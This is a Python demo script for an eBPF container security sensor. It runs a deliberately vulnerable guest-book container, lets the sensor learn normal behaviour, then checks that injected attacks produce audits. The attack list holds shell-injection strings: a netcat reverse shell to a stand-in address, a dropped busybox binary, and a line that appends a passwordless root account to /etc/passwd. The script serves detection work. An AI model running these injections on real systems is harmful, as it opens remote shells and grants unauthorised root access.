"""The story: a container is learned, deviates, and is found out. Gone without a trace afterwards.

The daemon is the real one, with state, socket and pins of its own, and times of seconds instead of
hours. Nothing here knows more than a person with the command line.
"""

from __future__ import annotations

import contextlib
import itertools
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from sensor.audits.audit import Audit, AuditType
from sensor.audits.formats import one_line, render
from sensor.audits.store import unpack_audit
from sensor.control.client import Client
from sensor.demo.box import Box, DockerBox, RuncBox
from sensor.errors import HostError, NotRunningError

LEARN_SECONDS = 10
DRY_RUN_SECONDS = 5
START_SECONDS = 600.0  # an emulated machine compiles and verifies for minutes
FIND_SECONDS = 30.0
VISIT_SECONDS = 0.15
GUESTS = ("Ada", "Grace", "Edsger", "Barbara", "Alan", "Frances")
BPF = Path("/sys/fs/bpf")
_INTERRUPTS = (signal.SIGINT, signal.SIGTERM, signal.SIGHUP)


@dataclass(frozen=True, slots=True)
class Attack:
    """What a dishonest guest writes, and the audit that has to come of it."""

    title: str
    entry: str
    expected: AuditType
    named: str  # in the audit's program or path


ATTACKS = (
    Attack(
        "A guest has a tool of the image call home",
        "$(nc -w 1 203.0.113.7 4444 -e /bin/sh)",
        AuditType.UNKNOWN_PROGRAM,
        "nc",
    ),
    Attack(
        "A guest drops a program and runs it",
        "$(cp /bin/busybox /var/uptime; /var/uptime)",
        AuditType.CHANGED_PROGRAM,
        "/var/uptime",
    ),
    Attack(
        "A guest adds an account",
        "$(echo 'guest::0:0::/:/bin/sh' >>/etc/passwd)",
        AuditType.PROTECTED_WRITE,
        "/etc/passwd",
    ),
)


class Story:
    """Tells the story on a stream of lines.

    Args:
        say: takes one line of text.
        runtime: "auto", "docker" or "runc".
    """

    def __init__(self, say: Callable[[str], None], *, runtime: str = "auto") -> None:
        self._say = say
        self._runtime = runtime
        self._step = itertools.count(1)
        self._sensor: subprocess.Popen[bytes] | None = None

    def tell(self) -> None:
        """From an empty kernel to three audits, and back to an empty kernel.

        Raises:
            RoteError: a step did not do what it should; nothing is left behind.
        """
        with (
            _interruptible(),
            tempfile.TemporaryDirectory(prefix="rote-demo-", dir="/var/tmp") as name,
            contextlib.ExitStack() as stack,
        ):
            home = Path(name)
            box = self._box(home)
            pins = BPF / f"rote-demo-{os.getpid()}"
            # Undone in reverse, whatever happens: container, daemon, pins, files.
            stack.callback(self._unload, home, pins)
            stack.callback(self._stop_sensor)
            stack.callback(box.remove)
            stack.callback(_ignore_interrupts)
            if box.starts_first:
                self._start_box(box)
            client = self._start_sensor(home, pins, box)
            if not box.starts_first:
                self._start_box(box)
            self._learn(client, box)
            for attack in ATTACKS:
                self._attack(client, box, attack)
            self._known_again(client, box)
            self._title("The end: container, daemon, programs and files are removed")

    def _box(self, home: Path) -> Box:
        if self._runtime == "docker" or (self._runtime == "auto" and DockerBox.answers()):
            return DockerBox()
        folder = home / "bundle"
        folder.mkdir()
        return RuncBox(folder)

    def _title(self, text: str) -> None:
        self._say("")
        self._say(f"{next(self._step)}. {text}")

    def _start_box(self, box: Box) -> None:
        self._title(f"A small container, in {box.runtime}: a guest book with a hole")
        box.start()
        self._say("   Whatever a guest writes into the book is evaluated by a shell.")

    def _start_sensor(self, home: Path, pins: Path, box: Box) -> Client:
        self._title("A daemon of its own: it loads its programs into the kernel")
        log = home / "daemon.log"
        with log.open("wb") as output:
            self._sensor = subprocess.Popen(
                [
                    *(sys.executable, "-m", "sensor"),
                    *("--state-dir", str(home / "state"), "--run-dir", str(home / "run")),
                    *("run", "--quiet", "--bpf-dir", str(pins)),
                    *("--learn", f"{LEARN_SECONDS}s", "--dry-run", f"{DRY_RUN_SECONDS}s"),
                    *box.sensor_options,
                ],
                stdin=subprocess.DEVNULL,
                stdout=output,
                stderr=output,
                # Ctrl-C ends the story, and the story ends the daemon.
                start_new_session=True,
            )
        client = Client(home / "run" / "control.sock")
        started = time.monotonic()
        while True:
            with contextlib.suppress(NotRunningError):
                attachment = client.ask("status")["attachment"]
                break
            if self._sensor.poll() is not None or time.monotonic() - started > START_SECONDS:
                words = log.read_text(errors="replace").strip().splitlines()
                raise HostError(
                    "the demonstration's daemon did not start: "
                    + (words[-1].removeprefix("rote: error: ") if words else "it said nothing")
                )
            time.sleep(0.1)
        self._say(
            f"   {len(attachment['hooks'])} programs, attached as {attachment['mode']}; what this "
            f"host can do about a deviation: {attachment['guarantee']}"
        )
        return client

    def _learn(self, client: Client, box: Box) -> None:
        """Honest guests until the model is active."""
        self._title("Honest guests write, and Rote learns what the image does")
        state = ""
        for visit in self._until(LEARN_SECONDS + DRY_RUN_SECONDS + 30, "the model to be active"):
            box.ask(f"{GUESTS[visit % len(GUESTS)]} was here")
            model = self._model(client, box)
            if model is None:
                continue
            if model["state"] != state:
                state = model["state"]
                self._say(f"   {_STATES.get(state, state)}")
            if state == "active":
                self._say(
                    f"   It knows {model['executions']} executions and {model['writes']} kinds of "
                    f"writes, after {visit + 1} entries in the book."
                )
                return

    def _attack(self, client: Client, box: Box, attack: Attack) -> None:
        self._title(f"{attack.title}:  {attack.entry}")
        seen = {audit.id for audit in self._audits(client, box)}
        started = time.monotonic()
        box.ask(f"hello {attack.entry}")
        found, new = None, list[Audit]()
        for _ in self._until(FIND_SECONDS, f"an audit of type {attack.expected} to be written"):
            new = [audit for audit in self._audits(client, box) if audit.id not in seen]
            found = next((audit for audit in new if _is(audit, attack)), None)
            if found is not None:
                break
        assert found is not None
        self._say(f"   Found out after {time.monotonic() - started:.1f} s. The audit:")
        self._say("")
        for line in render(found).splitlines():
            self._say(f"   | {line}".rstrip())
        others = [audit for audit in new if audit is not found]
        if others:
            self._say("")
            self._say("   On the way there:")
        for audit in others:
            self._say(f"   - {one_line(audit)}")

    def _known_again(self, client: Client, box: Box) -> None:
        self._title("Honest guests again")
        audits = len(self._audits(client, box))
        before = client.ask("status")["kernel"]
        for visit in range(20):
            box.ask(f"{GUESTS[visit % len(GUESTS)]} was here again")
        time.sleep(1)
        after = client.ask("status")["kernel"]
        more = len(self._audits(client, box)) - audits
        self._say(
            f"   20 entries: {after['known'] - before['known']} things that the container did were "
            f"known and went no further than the kernel. {more or 'No'} new audits, "
            f"{after['lost'] or 'no'} events lost."
        )

    def _model(self, client: Client, box: Box) -> dict[str, Any] | None:
        for container in client.ask("containers"):
            if container["name"] == box.name:
                models = client.ask("models.list")
                return next((m for m in models if m["number"] == container["model"]), None)
        return None

    @staticmethod
    def _audits(client: Client, box: Box) -> list[Audit]:
        rows = client.ask("audits.list", container=box.name, limit=0)
        return [unpack_audit(data) for data in rows]

    def _until(self, seconds: float, what: str) -> Iterator[int]:
        deadline = time.monotonic() + seconds
        for turn in itertools.count():
            yield turn
            if time.monotonic() > deadline:
                raise HostError(f"the demonstration waited {seconds:g} s for {what}, in vain")
            time.sleep(VISIT_SECONDS)

    def _stop_sensor(self) -> None:
        if self._sensor is None:
            return
        self._sensor.terminate()
        try:
            self._sensor.wait(15)
        except subprocess.TimeoutExpired:
            self._sensor.kill()
            self._sensor.wait(15)

    @staticmethod
    def _unload(home: Path, pins: Path) -> None:
        if pins.exists():
            from sensor.kernel.live import LiveKernel

            LiveKernel.unload(pins)
        shutil.rmtree(home / "bundle", ignore_errors=True)


_STATES = {
    "learning": "learning: everything new is learned",
    "dry-run": "dry-run: what is new would be an audit, and starts the dry run again",
    "active": "active: from here on, what is new is an audit",
}


def _is(audit: Audit, attack: Attack) -> bool:
    return audit.type is attack.expected and attack.named in (audit.program + " " + audit.path)


@contextlib.contextmanager
def _interruptible() -> Iterator[None]:
    """Let SIGTERM and SIGHUP end the story as Ctrl-C does: with everything put away."""
    old = {number: signal.signal(number, signal.default_int_handler) for number in _INTERRUPTS}
    try:
        yield
    finally:
        for number, handler in old.items():
            signal.signal(number, handler)


def _ignore_interrupts() -> None:
    """Putting everything away takes two seconds; a second Ctrl-C must not cut it short."""
    for number in _INTERRUPTS:
        signal.signal(number, signal.SIG_IGN)
